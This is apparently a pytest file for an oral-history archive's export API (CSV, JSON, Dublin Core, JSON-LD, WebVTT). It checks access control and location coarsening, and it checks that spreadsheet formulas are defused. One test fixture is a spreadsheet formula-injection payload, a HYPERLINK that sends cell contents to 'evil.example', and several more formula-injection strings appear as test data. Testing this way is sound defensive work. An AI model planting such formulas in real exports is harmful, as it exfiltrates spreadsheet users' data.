"""Exports: CSV that Excel opens and cannot be turned against its reader, JSON, Dublin Core,
JSON-LD, WebVTT and text; never more than the caller may see."""

from __future__ import annotations

import csv
import io
import xml.etree.ElementTree as ET

import pytest
import webvtt

from memoire.api.exports import defuse
from tests.api.fixtures import EXACT, HIDDEN_WORDS, REDACTED_WORD
from tests.api.helpers import assert_documented

DC = "{http://purl.org/dc/elements/1.1/}"


def _rows(response, delimiter=",") -> list[dict]:
    data = response.data
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 byte order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig")), delimiter=delimiter))


def test_story_list_as_csv(client, archive):
    response = client.get("/api/v1/exports/stories.csv?sort=id")
    assert response.status_code == 200
    assert_documented(response, "/api/v1/exports/stories.csv")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith(
        'attachment; filename="memoire-stories-'
    )
    rows = _rows(response)
    assert [r["title"] for r in rows] == ["La fosse Dutemple", "Le bal du samedi"]
    assert rows[0]["period_text"] == "années 60" and rows[0]["narrators"] == "Marcel D."
    assert rows[0]["places"] == "Dutemple" and rows[0]["themes"] == "Mine"
    assert rows[0]["short_url"] == f"http://localhost/s/{archive['public'].id}"
    assert rows[1]["places"] == ""  # a "quartier" story does not name its street
    assert (float(rows[1]["lat"]), float(rows[1]["lon"])) != EXACT
    assert response.headers["X-Export-Truncated"] == "false"


def test_csv_with_semicolons_for_french_excel(client, archive):
    rows = _rows(client.get("/api/v1/exports/stories.csv?delimiter=semicolon"), ";")
    assert len(rows) == 2 and "title" in rows[0]
    assert client.get("/api/v1/exports/stories.csv?delimiter=pipe").status_code == 400


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://x")', "+33 6 12", "-2+3", "@SUM(A1)", "\tx", "\rx"]
)
def test_cells_that_would_run_as_formulas_are_defused(value):
    assert defuse(value) == "'" + value
    assert defuse("Dutemple = quartier") == "Dutemple = quartier"
    assert defuse(-3.5) == -3.5  # numbers stay numbers


def test_formulas_in_stories_reach_the_csv_defused(client, create_story):
    create_story(
        '=HYPERLINK("http://evil.example/?"&A1,"Cliquez")',
        summary="+1 pour la fête",
        narrators=["@marcel"],
        body="-- souvenirs",
    )
    row = _rows(client.get("/api/v1/exports/stories.csv"))[0]
    assert row["title"].startswith("'=HYPERLINK(")
    assert row["summary"] == "'+1 pour la fête" and row["narrators"] == "'@marcel"
    assert row["body"] == "'-- souvenirs"


def test_story_list_as_json_with_filters(client, archive, auth_headers):
    response = client.get(
        "/api/v1/exports/stories.json?theme=mine", headers=auth_headers("researcher")
    )
    assert_documented(response, "/api/v1/exports/stories.json")
    body = response.get_json()
    titles = {row["title"] for row in body["stories"]}
    assert titles == {"La fosse Dutemple", f"Chercheurs {HIDDEN_WORDS['researchers']}"}
    assert body["count"] == 2 and body["truncated"] is False


@pytest.fixture
def few_rows(app):
    app.config["MEMOIRE_EXPORT_MAX_ROWS"] = 1


def test_exports_say_when_they_were_cut(client, archive, few_rows):
    response = client.get("/api/v1/exports/stories.json")
    assert response.headers["X-Export-Truncated"] == "true"
    assert response.get_json()["count"] == 1 and response.get_json()["truncated"] is True


def test_search_results_as_csv_and_json(client, archive, create_story, auth_headers):
    from memoire.search import service

    for n in range(3):
        create_story(f"Le chevalement n°{n}", body="Le chevalement de la fosse.")
    service.process_pending()
    response = client.get("/api/v1/exports/search.csv?q=chevalement")
    assert_documented(response, "/api/v1/exports/search.csv")
    rows = _rows(response)
    assert len(rows) == 4 and all(float(r["score"]) > 0 for r in rows)
    assert [float(r["score"]) for r in rows] == sorted(
        (float(r["score"]) for r in rows), reverse=True
    )
    hidden = client.get(f"/api/v1/exports/search.json?q={HIDDEN_WORDS['private']}")
    assert hidden.get_json()["count"] == 0
    researcher = client.get(
        f"/api/v1/exports/search.json?q={HIDDEN_WORDS['researchers']}",
        headers=auth_headers("researcher"),
    )
    assert researcher.get_json()["count"] == 1
    assert client.get("/api/v1/exports/search.json?q=%22open").status_code == 400


def test_dublin_core_record(client, archive):
    story = archive["public"]
    response = client.get(f"/api/v1/stories/{story.id}/dc.xml")
    assert response.headers["Content-Type"] == "application/xml; charset=utf-8"
    root = ET.fromstring(response.data)
    assert root.tag == "{http://www.openarchives.org/OAI/2.0/oai_dc/}dc"

    def values(name):
        return [e.text for e in root.iter(f"{DC}{name}")]

    assert values("title") == ["La fosse Dutemple"] and values("creator") == ["Marcel D."]
    assert "Sound" in values("type") and "StillImage" in values("type")
    assert f"http://localhost/s/{story.id}" in values("identifier")
    assert "Dutemple" in values("coverage") and "1960/1969" in values("coverage")
    assert "http://creativecommons.org/licenses/by-nc/4.0/" in values("rights")


def test_dublin_core_survives_control_characters(client, create_story):
    story = create_story("Bal\x0b du\x00 samedi", body="texte\x1b[31m")
    root = ET.fromstring(client.get(f"/api/v1/stories/{story.id}/dc.xml").data)
    assert root.find(f"{DC}title").text == "Bal du samedi"


def test_json_ld_creative_work_with_audio_and_places(client, archive):
    story = archive["public"]
    url = f"/api/v1/stories/{story.id}/schema.jsonld"
    response = client.get(url)
    assert response.mimetype == "application/ld+json"
    assert_documented(response, url)
    data = response.get_json()
    assert data["@type"] == "CreativeWork" and data["@id"].endswith(f"/s/{story.id}")
    audio = next(m for m in data["associatedMedia"] if m["@type"] == "AudioObject")
    assert audio["duration"].startswith("PT3") and audio["encodingFormat"].startswith("audio/")
    assert "Le terril était notre montagne." in audio["transcript"]
    assert REDACTED_WORD not in response.get_data(as_text=True)
    image = next(m for m in data["associatedMedia"] if m["@type"] == "ImageObject")
    assert image["contentUrl"].startswith("http://localhost/media/d/")
    assert data["contentLocation"][0]["name"] == "Dutemple"
    assert data["temporalCoverage"] == "1960/1969"


def test_json_ld_of_a_quartier_story_keeps_its_point_coarse(client, archive):
    data = client.get(f"/api/v1/stories/{archive['quartier'].id}/schema.jsonld").get_json()
    geo = data["contentLocation"][0]["geo"]
    assert (geo["latitude"], geo["longitude"]) != EXACT
    assert "Jaurès" not in str(data["contentLocation"])


def test_transcript_as_webvtt_and_text(client, archive):
    story = archive["public"]
    vtt = client.get(f"/api/v1/stories/{story.id}/transcript.vtt")
    assert vtt.headers["Content-Type"] == "text/vtt; charset=utf-8"
    captions = webvtt.from_buffer(io.StringIO(vtt.get_data(as_text=True))).captions
    assert [c.start for c in captions] == ["00:00:00.000", "00:00:01.000", "00:00:02.000"]
    assert captions[0].voice == "Marcel" and "chevalement" in captions[0].text
    assert REDACTED_WORD not in vtt.get_data(as_text=True)
    text = client.get(f"/api/v1/stories/{story.id}/transcript.txt").get_data(as_text=True)
    assert text.startswith("[00:00:00] Marcel : Le chevalement dominait la cité.")
    assert REDACTED_WORD not in text
    media_id = story.transcripts[0].media_id
    assert (
        client.get(f"/api/v1/stories/{story.id}/transcript.vtt?media={media_id}").status_code == 200
    )
    assert client.get(f"/api/v1/stories/{story.id}/transcript.vtt?media=999").status_code == 404
    assert client.get(f"/api/v1/stories/{archive['quartier'].id}/transcript.txt").status_code == 404


def test_hidden_stories_are_not_exported(client, archive):
    for story in archive["hidden"].values():
        for suffix in ("dc.xml", "schema.jsonld", "transcript.vtt", "transcript.txt"):
            assert client.get(f"/api/v1/stories/{story.id}/{suffix}").status_code == 404
    csv_text = client.get("/api/v1/exports/stories.csv").get_data(as_text=True)
    json_text = client.get("/api/v1/exports/stories.json").get_data(as_text=True)
    for word in HIDDEN_WORDS.values():
        assert word not in csv_text and word not in json_text
